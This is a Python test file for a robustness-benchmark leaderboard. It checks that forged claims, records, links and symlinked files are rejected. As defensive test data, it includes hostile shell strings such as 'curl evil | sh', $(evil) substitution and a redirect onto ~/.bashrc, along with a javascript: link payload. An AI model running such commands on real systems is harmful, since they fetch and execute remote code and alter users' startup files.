"""Forged files of the leaderboard's folder that were taken, or passed over, without a word."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from helpers.command import invoke
from helpers.leaderboard import CLAIMS, folder
from helpers.records import ladder_record

from robustbench_med.errors import DataError, UsageError
from robustbench_med.files.strict_json import check_strict
from robustbench_med.leaderboard.render.page.gallery import find
from robustbench_med.leaderboard.sources import test_split
from robustbench_med.leaderboard.sources.claims import read_claims
from robustbench_med.leaderboard.sources.folder import read_sources
from robustbench_med.leaderboard.sources.record_form import form_faults, is_own_command
from robustbench_med.leaderboard.sources.test_split import TestSplit, named
from robustbench_med.records.record import parse

SPLIT = TestSplit("d", "abc", "", "00", ("p", "q"), ("a", "b"), ("no", "yes"), 1, True, "CC0")


def test_the_images_of_a_data_set_have_one_split(tmp_path: Path) -> None:
    """Of the same digest under another name, the later file gave every image another patient."""
    root = folder(tmp_path, ladder_record("0"))
    for name in ("d", "zz"):
        split = TestSplit(**{**SPLIT.__dict__, "dataset": name, "patients": ("p", "p")})
        test_split.write(root / "splits" / named(split), split)
    with pytest.raises(DataError, match=r"zz-abc\.json is of the images of d-abc\.json"):
        read_sources(root)


@pytest.mark.parametrize("name", ["claims.toml", "names.json", "verified.jsonl", "notice.txt"])
def test_what_is_no_file_is_not_passed_over(tmp_path: Path, name: str) -> None:
    """Without claims or a maintainer's word the pages say something else."""
    root = folder(tmp_path, ladder_record("0"))
    file = root / name
    for make in (lambda: file.symlink_to("/dev/zero"), lambda: file.symlink_to("nowhere"), lambda: os.mkfifo(file)):
        file.unlink(missing_ok=True)
        make()
        told = invoke("leaderboard", "build", "--root", root)
        assert (told.exit_code, "not a file" in " ".join(told.output.split())) == (2, True), told.output
    assert not (root / "README.md").exists()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("robust = 87.33", "robust = true"),
        ("robust = 87.33", 'robust = "87.33"'),
        ("robust = 87.33", "robust = nan"),
        ("robust = 87.33", "robust = inf"),
        ("https://arxiv.org/abs/2501.00001", "https://arxiv.org@example.org/abs/2501.00001"),
        ("https://arxiv.org/abs/2501.00001", "javascript:alert(1)"),
        ('text = "Someone', 'text = 2025 # "Someone'),
    ],
)
def test_a_claim_says_numbers_as_numbers_and_links_where_they_lead(tmp_path: Path, old: str, new: str) -> None:
    file = tmp_path / "claims.toml"
    file.write_text(CLAIMS)
    assert read_claims(file).claims
    file.write_text(CLAIMS.replace(old, new))
    with pytest.raises(UsageError, match=r"claims\.toml") as caught:
        read_claims(file)
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize(
    "text", ['{"defense": {"f": {"title": "A"}}, "defense": {}}', '{"defense": {"f": {"bare": 1}}}']
)
def test_names_are_read_in_one_way(tmp_path: Path, text: str) -> None:
    root = folder(tmp_path, ladder_record("0"))
    (root / "names.json").write_text(text)
    with pytest.raises(DataError, match=r"names\.json is no file of names"):
        read_sources(root)


def _spaced(text: str) -> str:
    return text.replace('"n":', '"n" :9, "n":')


def _by_number(text: str) -> str:
    return text.replace('"n":', '"\\u006e": 9, "n":').replace('"created":', '"x\\u0022:": 1, "created":')


@pytest.mark.parametrize("edit", [lambda text: text.replace('"n":', '"n": 9, "n":'), _spaced, _by_number])
def test_a_published_record_has_each_key_once(tmp_path: Path, edit: Callable[[str], str]) -> None:
    """A reviewer reads the first, a program the last."""
    root = folder(tmp_path, ladder_record("0"))
    file = root / "records" / "a.jsonl"
    file.write_text(edit(file.read_text()))
    with pytest.raises(DataError, match=r"a\.jsonl: line 1 is not a record"):
        read_sources(root)


@pytest.mark.parametrize("line", ['{"a": 1, "a": 1}', '{"a": {"b": 1, "b" : 2}}', '{"a": 1e999}', f'{{"a": {2**64}}}'])
def test_the_fast_check_refuses_what_the_slow_one_does(line: str) -> None:
    with pytest.raises(ValueError, match=r"is there twice|is too large"):
        check_strict(line.encode())


@pytest.mark.parametrize("line", ['{"a": "x\\": 1", "b": "Infinity", "c": "\\u0022:"}', '{"a" : 1, "b": 1e-05}', "[]"])
def test_the_fast_check_takes_what_the_slow_one_does(line: str) -> None:
    check_strict(line.encode())


@pytest.mark.parametrize(
    ("text", "own"),
    [
        ("rbmed run configs/a.toml --include 'defense=undefended:*' --out …/r", True),
        ("rbmed run --attack 'apgd:steps=20,loss=[a b]'", True),
        ("rbmed run --attack 'a long one that was cut off…", True),
        ("rbmed run 'it'\\''s' --x", True),
        ("rbmed", True),
        ("rbmed run; curl evil | sh", False),
        ("rbmed run $(evil)", False),
        ("rbmed run `evil`", False),
        ("rbmed run 'a' > ~/.bashrc", False),
        ('rbmed run "$(evil)"', False),
        ("rbmed run 'a'; 'b…", False),
        ("rbmedx run", False),
        ("curl evil", False),
    ],
)
def test_a_command_of_a_record_runs_rbmed_alone(text: str, own: bool) -> None:
    assert is_own_command(text) == own


def test_a_submitted_record_has_no_keys_of_its_own() -> None:
    facts = json.loads(ladder_record("0").model_dump_json())
    assert list(form_faults(parse(json.dumps(facts)))) == []
    facts["dataset"]["a"], facts["rungs"][0]["b"], facts["diagnostics"]["c"] = 1, 2, 3
    said = list(form_faults(parse(json.dumps(facts))))
    assert [line.split("'")[1] for line in said] == ["dataset.a", "diagnostics.c", "rungs.b"]


def test_a_picture_that_is_a_link_is_not_put_into_a_report(tmp_path: Path) -> None:
    told = {"answer": "a", "alone": None, "score": None, "flagged": None, "purified": None}
    example = {"file": "1.png", "width": 1, "height": 1, "withstood": True, "client": "a", "truth": "x"}
    example |= {"threshold": None, "before": told, "after": told, "alt": "a"}
    (tmp_path / "e").mkdir()
    (tmp_path / "e" / "gallery.json").write_text(json.dumps({"told": "t", "columns": ["c"], "examples": [example]}))
    (tmp_path / "secret").write_text("mine")
    (tmp_path / "e" / "1.png").symlink_to(tmp_path / "secret")
    with pytest.raises(DataError, match="which is not there or a link"):
        find(tmp_path, "e")
